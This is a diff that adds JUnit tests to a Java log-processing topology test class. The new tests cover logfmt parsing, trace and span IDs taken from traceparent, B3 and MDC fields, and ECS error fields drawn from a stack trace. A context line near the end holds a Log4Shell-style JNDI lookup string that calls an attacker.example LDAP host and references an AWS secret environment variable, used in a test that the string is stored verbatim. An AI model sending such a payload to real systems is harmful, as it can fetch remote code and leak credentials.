@@ -181,6 +181,42 @@ class LogTopologyTest {
     }
 
     @Test
+    void shouldReadLogfmtLines() {
+        send("go-app", "time=2026-11-22T10:00:00Z level=warning msg=\"cache miss for user 42\" user=42 took=3ms", "id-l");
+
+        LogEvent event = enriched.readValue();
+        assertThat(event.timestamp()).isEqualTo(Instant.parse("2026-11-22T10:00:00Z"));
+        assertThat(event.level()).isEqualTo("WARN");
+        assertThat(event.message()).isEqualTo("cache miss for user 42");
+        assertThat(event.labels()).containsEntry("user", "42").containsEntry("took", "3ms");
+    }
+
+    @Test
+    void shouldTakeTraceContextFromTraceparentAndB3() {
+        send("w3c", "{\"message\":\"a\",\"traceparent\":\"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\"}", "id-t");
+        send("b3", "{\"message\":\"b\",\"b3\":\"80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1\"}", "id-u");
+        send("mdc", "{\"message\":\"c\",\"mdc\":{\"traceId\":\"abc123\",\"spanId\":\"def\"}}", "id-v");
+
+        List<LogEvent> events = enriched.readValuesToList();
+        assertThat(events).extracting(LogEvent::traceId)
+                .containsExactly("4bf92f3577b34da6a3ce929d0e0e4736", "80f198ee56343ba864fe8b2a57d3eff7", "abc123");
+        assertThat(events).extracting(LogEvent::spanId).containsExactly("00f067aa0ba902b7", "e457b5a2e4d86bd1", "def");
+    }
+
+    @Test
+    void shouldFillEcsErrorFieldsFromALogstashLogbackStackTrace() {
+        send("spring", "{\"@timestamp\":\"2026-11-22T10:00:00Z\",\"level\":\"ERROR\",\"message\":\"checkout failed\","
+                + "\"stack_trace\":\"java.lang.IllegalStateException: no stock\\n\\tat com.shop.Cart.reserve(Cart.java:12)\"}", "id-e");
+
+        LogEvent event = enriched.readValue();
+        assertThat(event.errorType()).isEqualTo("java.lang.IllegalStateException");
+        assertThat(event.errorMessage()).isEqualTo("no stock");
+        assertThat(event.errorStackTrace()).contains("at com.shop.Cart.reserve");
+        assertThat(event.errorFingerprint()).hasSize(16);
+        assertThat(event.labels()).doesNotContainKey("stack_trace");
+    }
+
+    @Test
     void shouldStoreALookupStringVerbatim() {
         send("jndi", "${jndi:ldap://attacker.example/a} ${env:AWS_SECRET}", "id-j");
 
